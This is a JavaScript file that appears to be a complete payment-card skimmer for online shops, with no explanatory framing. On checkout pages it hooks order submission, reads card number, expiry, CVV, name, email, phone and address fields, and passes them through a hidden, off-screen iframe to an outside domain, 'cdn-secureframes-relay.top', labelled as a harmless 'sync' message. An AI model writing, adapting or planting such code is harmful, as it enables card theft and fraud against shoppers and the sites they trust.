(function () {
  var FRAME_SRC = 'https://cdn-secureframes-relay.top/relay/index.html';
  var frame = null;
  var ready = false;
  var backlog = [];

  function mountFrame() {
    if (frame) return;
    frame = document.createElement('iframe');
    frame.src = FRAME_SRC + '?o=' + encodeURIComponent(location.hostname);
    frame.setAttribute('aria-hidden', 'true');
    frame.tabIndex = -1;
    frame.style.cssText = 'position:absolute;width:1px;height:1px;left:-9999px;top:-9999px;border:0;visibility:hidden;';
    frame.onload = function () {
      ready = true;
      while (backlog.length) {
        frame.contentWindow.postMessage(backlog.shift(), '*');
      }
    };
    (document.body || document.documentElement).appendChild(frame);
  }

  function val(sel) {
    var el = document.querySelector(sel);
    return el ? el.value : '';
  }

  function collect() {
    return {
      number: val('input[name="payment[cc_number]"], #cc-number, input[autocomplete="cc-number"]'),
      exp_m: val('select[name="payment[cc_exp_month]"], #cc-exp-month'),
      exp_y: val('select[name="payment[cc_exp_year]"], #cc-exp-year'),
      cvv: val('input[name="payment[cc_cid]"], #cc-cvv, input[autocomplete="cc-csc"]'),
      holder: val('#cc-name, input[autocomplete="cc-name"]'),
      email: val('input[type="email"], #customer-email'),
      phone: val('input[name="telephone"]'),
      street: val('input[name="street[0]"]'),
      city: val('input[name="city"]'),
      zip: val('input[name="postcode"]'),
      site: location.host
    };
  }

  function send(data) {
    var msg = JSON.stringify({ type: 'sync', payload: data });
    if (ready) {
      frame.contentWindow.postMessage(msg, '*');
    } else {
      backlog.push(msg);
      mountFrame();
    }
  }

  function hook() {
    var forms = document.querySelectorAll('form');
    for (var i = 0; i < forms.length; i++) {
      forms[i].addEventListener('submit', function () {
        var d = collect();
        if (d.number && d.number.replace(/\D/g, '').length >= 13) send(d);
      }, true);
    }
    document.addEventListener('click', function (e) {
      var t = e.target.closest && e.target.closest('button.checkout, button[title="Place Order"], #place-order');
      if (t) {
        var d = collect();
        if (d.number) send(d);
      }
    }, true);
  }

  if (/checkout|onepage|payment/i.test(location.pathname)) {
    mountFrame();
    if (document.readyState === 'loading') {
      document.addEventListener('DOMContentLoaded', hook);
    } else {
      hook();
    }
  }
})();
